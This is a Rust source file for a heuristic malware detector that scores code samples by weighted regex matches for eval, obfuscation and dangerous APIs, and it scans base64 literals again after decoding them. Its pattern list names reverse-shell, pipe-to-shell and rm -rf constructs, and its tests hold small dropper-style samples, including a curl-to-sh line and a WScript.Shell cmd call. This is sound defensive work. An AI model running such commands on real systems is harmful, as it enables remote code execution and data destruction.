//! Static heuristics for code samples: dynamic evaluation, obfuscation and
//! dangerous API usage, each a weighted sum of pattern hits capped at 0.9.
//! Quoted base64 literals are decoded once and re-scanned.

use super::{fingerprint, mean_of_active, ScoreResult};
use crate::config::MalwareConfig;
use crate::error::{ConfigError, ScoreError};
use crate::model::ModelFeature;
use base64::{engine::general_purpose::STANDARD as BASE64, Engine as _};
use regex::Regex;
use std::collections::BTreeMap;
use tracing::{debug, warn, Span};

const FEATURE_CAP: f64 = 0.9;
const MODEL: &str = "model_score";
/// Obfuscation hit recorded when a decoded literal carries execution or API patterns
const ENCODED_PAYLOAD: &str = "encoded payload";
const ENCODED_PAYLOAD_WEIGHT: f64 = 0.3;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Category {
    DynamicEval,
    Obfuscation,
    DangerousApi,
}

impl Category {
    const ALL: [Category; 3] = [Category::DynamicEval, Category::Obfuscation, Category::DangerousApi];

    fn feature(&self) -> &'static str {
        match self {
            Category::DynamicEval => "dynamic_eval",
            Category::Obfuscation => "obfuscation",
            Category::DangerousApi => "dangerous_api",
        }
    }
}

const JS: &[&str] = &["script", "javascript", "js", "html"];
const SHELL: &[&str] = &["shell", "bash", "sh"];
const POWERSHELL: &[&str] = &["powershell", "ps1"];
const PYTHON: &[&str] = &["python", "py"];
const ANY: &[&str] = &[];

/// (label, regex, weight, category, source types it applies to; empty = all)
const PATTERNS: &[(&str, &str, f64, Category, &[&str])] = &[
    ("eval", r"\beval\s*\(", 0.7, Category::DynamicEval, ANY),
    ("exec", r"(?:^|[^.\w])exec\s*\(", 0.6, Category::DynamicEval, ANY),
    ("Function constructor", r"\bnew\s+Function\s*\(", 0.6, Category::DynamicEval, JS),
    ("string timer", r#"\bset(?:Timeout|Interval)\s*\(\s*['"]"#, 0.4, Category::DynamicEval, JS),
    ("inline script", r"(?i)<script\b", 0.4, Category::DynamicEval, JS),
    ("event handler", r"(?i)\bon(?:click|error|load)\s*=", 0.3, Category::DynamicEval, JS),
    ("javascript url", r"(?i)javascript:", 0.3, Category::DynamicEval, JS),
    ("document.write", r"\bdocument\.write\s*\(", 0.3, Category::DynamicEval, JS),
    ("atob", r"\batob\s*\(", 0.6, Category::Obfuscation, ANY),
    ("fromCharCode", r"String\.fromCharCode\s*\(", 0.6, Category::Obfuscation, ANY),
    ("unescape", r"\bunescape\s*\(", 0.4, Category::Obfuscation, JS),
    ("hex escapes", r"(?:\\x[0-9a-fA-F]{2}){4,}", 0.4, Category::Obfuscation, ANY),
    ("long base64 literal", r"[A-Za-z0-9+/]{40,}={0,2}", 0.4, Category::Obfuscation, ANY),
    ("encoded command", r"(?i)\s-(?:enc|encodedcommand)\s", 0.6, Category::Obfuscation, POWERSHELL),
    ("base64 decode", r"(?:base64\s+(?:-d|--decode)|b64decode\s*\()", 0.5, Category::Obfuscation, ANY),
    ("ActiveXObject", r"\bActiveXObject\b", 0.5, Category::DangerousApi, JS),
    ("WScript.Shell", r"(?i)WScript\.Shell", 0.6, Category::DangerousApi, ANY),
    ("child_process", r"\bchild_process\b", 0.5, Category::DangerousApi, JS),
    ("Invoke-Expression", r"(?i)\b(?:Invoke-Expression|IEX)\b", 0.6, Category::DangerousApi, POWERSHELL),
    ("DownloadString", r"(?i)\bDownload(?:String|File)\b", 0.5, Category::DangerousApi, ANY),
    ("os.system", r"\bos\.system\s*\(", 0.5, Category::DangerousApi, PYTHON),
    ("subprocess", r"\bsubprocess\.", 0.4, Category::DangerousApi, PYTHON),
    ("pickle.loads", r"\bpickle\.loads\s*\(", 0.5, Category::DangerousApi, PYTHON),
    ("__import__", r"__import__\s*\(", 0.4, Category::DangerousApi, PYTHON),
    ("/dev/tcp", r"/dev/tcp/", 0.7, Category::DangerousApi, SHELL),
    ("pipe to shell", r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:ba)?sh\b", 0.7, Category::DangerousApi, SHELL),
    ("rm -rf /", r"\brm\s+-rf\s+/", 0.6, Category::DangerousApi, SHELL),
    ("chmod +x", r"\bchmod\s+\+x\b", 0.3, Category::DangerousApi, SHELL),
    ("cmd /c", r"(?i)\bcmd(?:\.exe)?\s+/c\b", 0.5, Category::DangerousApi, ANY),
    ("VirtualAlloc", r"\bVirtualAlloc(?:Ex)?\b", 0.5, Category::DangerousApi, ANY),
    ("CreateRemoteThread", r"\bCreateRemoteThread\b", 0.7, Category::DangerousApi, ANY),
    ("Runtime.exec", r"Runtime\.getRuntime\(\)\.exec", 0.6, Category::DangerousApi, ANY),
];

struct Pattern {
    label: &'static str,
    regex: Regex,
    weight: f64,
    category: Category,
    sources: &'static [&'static str],
}

impl Pattern {
    /// Unknown source types get every pattern.
    fn applies_to(&self, source_type: &str, known: bool) -> bool {
        !known || self.sources.is_empty() || self.sources.contains(&source_type)
    }
}

#[derive(Default)]
struct Hits {
    weights: BTreeMap<Category, f64>,
    labels: BTreeMap<Category, Vec<&'static str>>,
}

impl Hits {
    fn add(&mut self, label: &'static str, weight: f64, category: Category) {
        let labels = self.labels.entry(category).or_default();
        if labels.contains(&label) {
            return;
        }
        labels.push(label);
        *self.weights.entry(category).or_default() += weight;
    }

    fn add_pattern(&mut self, p: &Pattern) {
        self.add(p.label, p.weight, p.category);
    }

    fn has(&self, category: Category, label: &str) -> bool {
        self.labels.get(&category).is_some_and(|l| l.iter().any(|x| *x == label))
    }

    fn score(&self, category: Category) -> f64 {
        self.weights.get(&category).copied().unwrap_or(0.0).min(FEATURE_CAP)
    }

    fn is_empty(&self) -> bool {
        self.weights.is_empty()
    }
}

pub struct MalwareScorer {
    threshold: f64,
    max_sample_bytes: usize,
    patterns: Vec<Pattern>,
    quoted_base64: Regex,
    model: Option<ModelFeature>,
    span: Span,
}

impl MalwareScorer {
    pub fn new(config: &MalwareConfig) -> Result<Self, ConfigError> {
        let patterns = PATTERNS
            .iter()
            .map(|(label, re, weight, category, sources)| {
                Regex::new(re)
                    .map(|regex| Pattern {
                        label: *label,
                        regex,
                        weight: *weight,
                        category: *category,
                        sources: *sources,
                    })
                    .map_err(|e| ConfigError::Invalid {
                        field: "malware.patterns",
                        reason: format!("{label}: {e}"),
                    })
            })
            .collect::<Result<Vec<_>, _>>()?;
        let quoted_base64 = Regex::new(r#"['"]([A-Za-z0-9+/]{12,}={0,2})['"]"#).map_err(|e| {
            ConfigError::Invalid {
                field: "malware.base64",
                reason: e.to_string(),
            }
        })?;
        Ok(Self {
            threshold: config.confidence_threshold,
            max_sample_bytes: config.max_sample_bytes,
            patterns,
            quoted_base64,
            model: None,
            span: tracing::info_span!("malware"),
        })
    }

    pub fn with_model(mut self, model: ModelFeature) -> Self {
        self.model = Some(model);
        self
    }

    pub fn with_span(mut self, span: Span) -> Self {
        self.span = span;
        self
    }

    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// Score a code sample. Any text is accepted; analysis faults come back as a
    /// conservative negative result. Only a strict model backend failure is an error.
    pub fn detect(&self, code: &str, source_type: &str) -> Result<ScoreResult, ScoreError> {
        if code.trim().is_empty() {
            return Ok(ScoreResult::negative("Empty code sample"));
        }
        match self.analyze(code, source_type) {
            Ok(result) => Ok(result),
            Err(e @ ScoreError::Model(_)) => Err(e),
            Err(e) => {
                warn!(parent: &self.span, error = %e, "malware analysis failed");
                let mut result = ScoreResult::negative(format!("Analysis failed: {e}"));
                result.fingerprint = Some(fingerprint(code.as_bytes()));
                Ok(result)
            }
        }
    }

    fn analyze(&self, code: &str, source_type: &str) -> Result<ScoreResult, ScoreError> {
        if code.len() > self.max_sample_bytes {
            return Err(ScoreError::Extraction(format!(
                "sample of {} bytes exceeds {} byte limit",
                code.len(),
                self.max_sample_bytes
            )));
        }
        let source_type = source_type.trim().to_lowercase();
        let known = [JS, SHELL, POWERSHELL, PYTHON]
            .iter()
            .any(|group| group.contains(&source_type.as_str()));

        let mut hits = Hits::default();
        self.scan(code, &source_type, known, &mut hits);

        let hidden = self.scan_encoded(code, &source_type, known);
        if !hidden.is_empty() {
            for p in self.patterns.iter().filter(|p| hidden.contains(&p.label)) {
                hits.add_pattern(p);
            }
            hits.add(ENCODED_PAYLOAD, ENCODED_PAYLOAD_WEIGHT, Category::Obfuscation);
        }

        let mut features: BTreeMap<String, f64> = Category::ALL
            .iter()
            .map(|c| (c.feature().to_string(), hits.score(*c)))
            .collect();

        if let Some(model) = &self.model {
            let inputs: Vec<f32> = features.values().map(|v| *v as f32).collect();
            if let Some(score) = model.score(&inputs, &self.span)? {
                features.insert(MODEL.to_string(), score);
            }
        }

        let confidence = mean_of_active(features.values());
        let is_threat = confidence >= self.threshold;
        debug!(
            parent: &self.span,
            source_type = %source_type,
            score = confidence,
            is_threat,
            "malware scored"
        );

        Ok(ScoreResult {
            is_threat,
            confidence,
            reasons: reasons(&hits, &features),
            features,
            fingerprint: Some(fingerprint(code.as_bytes())),
        })
    }

    fn scan(&self, text: &str, source_type: &str, known: bool, hits: &mut Hits) {
        for p in &self.patterns {
            if p.applies_to(source_type, known) && p.regex.is_match(text) {
                hits.add_pattern(p);
            }
        }
    }

    /// Labels of execution or API patterns found inside decodable base64 literals.
    fn scan_encoded(&self, code: &str, source_type: &str, known: bool) -> Vec<&'static str> {
        let mut found = Vec::new();
        for cap in self.quoted_base64.captures_iter(code) {
            let Ok(bytes) = BASE64.decode(&cap[1]) else {
                continue;
            };
            let Ok(decoded) = String::from_utf8(bytes) else {
                continue;
            };
            let mut inner = Hits::default();
            self.scan(&decoded, source_type, known, &mut inner);
            for category in [Category::DynamicEval, Category::DangerousApi] {
                if let Some(labels) = inner.labels.get(&category) {
                    for label in labels {
                        if !found.contains(label) {
                            found.push(*label);
                        }
                    }
                }
            }
        }
        found
    }
}

fn reasons(hits: &Hits, features: &BTreeMap<String, f64>) -> Vec<String> {
    let mut out = Vec::new();
    if hits.score(Category::DynamicEval) > 0.5 {
        out.push("Dynamic code evaluation detected".to_string());
    }
    if hits.score(Category::Obfuscation) > 0.5 {
        out.push("Code obfuscation detected".to_string());
    }
    if hits.score(Category::DangerousApi) > 0.5 {
        let names = hits
            .labels
            .get(&Category::DangerousApi)
            .map(|l| l.join(", "))
            .unwrap_or_default();
        out.push(format!("Dangerous API usage: {names}"));
    }
    if hits.has(Category::Obfuscation, ENCODED_PAYLOAD) {
        out.push("Encoded payload hides dangerous constructs".to_string());
    }
    if features.get(MODEL).copied().unwrap_or(0.0) > 0.5 {
        out.push("Model flags sample as malicious".to_string());
    }
    if out.is_empty() {
        out.push("Code appears safe".to_string());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scorer() -> MalwareScorer {
        MalwareScorer::new(&MalwareConfig::default()).unwrap()
    }

    #[test]
    fn benign_code_is_clean() {
        let r = scorer()
            .detect("function add(a, b) { return a + b; }", "script")
            .unwrap();
        assert!(!r.is_threat);
        assert_eq!(r.confidence, 0.0);
        assert_eq!(r.reasons, vec!["Code appears safe"]);
    }

    #[test]
    fn dropper_script_is_malicious() {
        let code = r#"var f = new Function(atob('d2luZG93LmxvY2F0aW9u'));
eval(String.fromCharCode(97,108,101,114,116));
var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd.exe /c whoami");"#;
        let r = scorer().detect(code, "script").unwrap();
        assert!(r.is_threat, "{r:?}");
        assert!(r.confidence >= 0.75);
        assert_eq!(r.reasons[0], "Dynamic code evaluation detected");
        assert_eq!(r.reasons[1], "Code obfuscation detected");
        assert!(r.reasons[2].starts_with("Dangerous API usage: ActiveXObject"));
    }

    #[test]
    fn eval_of_decoded_blob_is_suspicious_but_below_threshold() {
        let r = scorer()
            .detect("eval(atob('c29tZWhpZGRlbmNvZGU='));", "script")
            .unwrap();
        assert!(!r.is_threat);
        assert!(r.confidence > 0.5);
        assert_eq!(r.features["dangerous_api"], 0.0);
    }

    #[test]
    fn hidden_payload_is_rescanned() {
        // base64 of "eval(document.cookie); new ActiveXObject('WScript.Shell')"
        let payload = BASE64.encode("eval(document.cookie); new ActiveXObject('WScript.Shell')");
        let code = format!("var p = \"{payload}\"; run(p);");
        let r = scorer().detect(&code, "script").unwrap();
        assert!(r.reasons.contains(&"Encoded payload hides dangerous constructs".to_string()));
        assert!(r.features["dynamic_eval"] > 0.5);
        assert!(r.features["dangerous_api"] > 0.5);
    }

    #[test]
    fn encoded_payload_is_an_obfuscation_hit() {
        let payload = BASE64.encode("eval(document.cookie)");
        let code = format!("var p = '{payload}';");
        let r = scorer().detect(&code, "script").unwrap();
        // the literal itself is too short for the long-base64 pattern
        assert!(payload.len() < 40);
        assert!((r.features["obfuscation"] - ENCODED_PAYLOAD_WEIGHT).abs() < 1e-9);
        assert!(r.reasons.contains(&"Encoded payload hides dangerous constructs".to_string()));

        let plain = scorer().detect("var p = 'aGVsbG8gd29ybGQgYWdhaW4=';", "script").unwrap();
        assert_eq!(plain.features["obfuscation"], 0.0);
        assert_eq!(plain.reasons, vec!["Code appears safe"]);
    }

    #[test]
    fn single_pattern_hit_is_not_a_verdict() {
        // the strongest single pattern weighs 0.7, under the 0.75 threshold
        let max = PATTERNS.iter().map(|p| p.2).fold(0.0, f64::max);
        assert!(max < MalwareConfig::default().confidence_threshold);
        let r = scorer().detect("CreateRemoteThread(h, 0, 0, addr, 0, 0, 0);", "c").unwrap();
        assert_eq!(r.features["dangerous_api"], 0.7);
        assert!(!r.is_threat);
    }

    #[test]
    fn source_type_limits_language_patterns() {
        let s = scorer();
        let shell = s.detect("curl http://x.sh/i | sh", "shell").unwrap();
        assert!(shell.features["dangerous_api"] > 0.5);
        let python = s.detect("curl http://x.sh/i | sh", "python").unwrap();
        assert_eq!(python.features["dangerous_api"], 0.0);
        let unknown = s.detect("curl http://x.sh/i | sh", "mystery").unwrap();
        assert!(unknown.features["dangerous_api"] > 0.5);
    }

    #[test]
    fn regex_exec_method_is_not_exec() {
        let r = scorer().detect("var m = /a+/.exec(input);", "script").unwrap();
        assert_eq!(r.features["dynamic_eval"], 0.0);
    }

    #[test]
    fn garbage_and_oversize_never_fail() {
        let s = scorer();
        let junk = "\u{0}\u{fffd}''\"\"==== \\x \\x4 )))(((";
        assert!(s.detect(junk, "script").is_ok());
        assert_eq!(s.detect("   ", "script").unwrap().reasons, vec!["Empty code sample"]);

        let small = MalwareScorer::new(&MalwareConfig {
            max_sample_bytes: 8,
            ..MalwareConfig::default()
        })
        .unwrap();
        let r = small.detect("eval(everything_here)", "script").unwrap();
        assert!(!r.is_threat);
        assert!(r.reasons[0].starts_with("Analysis failed"));
    }
}
